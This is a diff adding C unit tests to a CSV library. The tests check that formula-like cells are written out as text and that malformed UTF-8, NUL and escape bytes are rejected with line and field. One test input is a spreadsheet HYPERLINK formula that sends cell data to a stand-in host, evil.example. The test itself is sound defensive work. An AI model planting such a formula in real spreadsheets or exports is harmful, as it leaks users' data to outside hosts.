@@ -143,9 +143,72 @@ static void test_put_field_round_trip(void **state) {
     sbufFree(&b);
 }
 
+/* Cells a spreadsheet would run as formulas come out as text (issue 8 finding 4). */
+static void test_put_field_neutralises_formulas(void **state) {
+    (void)state;
+    const char *in[] = {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "+1", "-2", "@SUM(A1)", "\t=1+1",
+                        "\r=1", "=1+1镇", "a=b", "1-2", "福顺-1"};
+    const char *out[] = {"\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"", "\"'+1\"", "\"'-2\"",
+                         "\"'@SUM(A1)\"", "\"'\t=1+1\"", "\"'\r=1\"", "\"'=1+1镇\"", "a=b", "1-2", "福顺-1"};
+    sbuf b;
+    sbufInit(&b);
+    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
+        sbufClear(&b);
+        csvPutField(&b, in[i]);
+        assert_string_equal(b.data, out[i]);
+        assert_int_equal(csvFormulaLike(in[i]), out[i][0] == '"');
+    }
+    sbufFree(&b);
+}
+
+/* Reads text (n bytes) and returns the first malformed record's reason, field and line. */
+static void expectBad(const char *text, size_t n, const char *encoding, uint64_t line, size_t field, const char *why) {
+    FILE *f = memfile(text, n);
+    csvReader r;
+    assert_int_equal(csvOpen(&r, f, encoding), 0);
+    int k;
+    while ((k = csvNext(&r)) == 1 && !r.bad[0]) {}
+    assert_int_equal(k, 1);
+    assert_non_null(strstr(r.bad, why));
+    assert_int_equal(r.rec_line, line);
+    assert_int_equal(r.bad_field, field);
+    csvClose(&r);
+    fclose(f);
+}
+
+/* Issue 8 findings 16, 17, 19: a quote never closed names the line it opened on;
+ * bytes that are not UTF-8 past the detection sample, after a BOM, or malformed
+ * sequences (overlong, surrogate) are refused per record; NUL and control
+ * characters are refused, naming the field. */
+static void test_text_checks(void **state) {
+    (void)state;
+    const char header_quote[] = "uscc,year,\"备注\n1,2,3\n4,5,6\n";
+    expectBad(header_quote, sizeof header_quote - 1, NULL, 1, 2, "opened on line 1");
+    const char bom_gbk[] = "\xEF\xBB\xBFuscc,name\nA,\xB8\xA3\xCB\xB3\n";
+    expectBad(bom_gbk, sizeof bom_gbk - 1, NULL, 2, 1, "invalid UTF-8");
+    const char garbage[] = "a,b\nx,\xc0\xaf\xff\xfe\n";
+    expectBad(garbage, sizeof garbage - 1, "utf-8", 2, 1, "invalid UTF-8");
+    const char surrogate[] = "a,b\n\xED\xA0\x80,1\n";
+    expectBad(surrogate, sizeof surrogate - 1, "utf-8", 2, 0, "invalid UTF-8");
+    const char nul[] = "a,b\nABC\0DEF,1\n";
+    expectBad(nul, sizeof nul - 1, "utf-8", 2, 0, "U+0000");
+    const char esc[] = "a,b\nok,x\x1b[31m\n";
+    expectBad(esc, sizeof esc - 1, "utf-8", 2, 1, "U+001B");
+    /* valid for the whole 64 KiB sample, then a stray byte: detected as UTF-8, the record is refused */
+    static char big[70000];
+    size_t n = 0;
+    n += (size_t)sprintf(big, "a,b\n");
+    while (n < 66000) n += (size_t)sprintf(big + n, "福顺,1\n");
+    const uint64_t line = 1 + (uint64_t)(n - 4) / strlen("福顺,1\n") + 1;
+    n += (size_t)sprintf(big + n, "x\xff,2\n");
+    expectBad(big, n, NULL, line, 0, "invalid UTF-8");
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {cmocka_unit_test(test_quoting), cmocka_unit_test(test_malformed),
                                        cmocka_unit_test(test_gbk), cmocka_unit_test(test_undecodable),
-                                       cmocka_unit_test(test_put_field_round_trip)};
+                                       cmocka_unit_test(test_put_field_round_trip),
+                                       cmocka_unit_test(test_put_field_neutralises_formulas),
+                                       cmocka_unit_test(test_text_checks)};
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
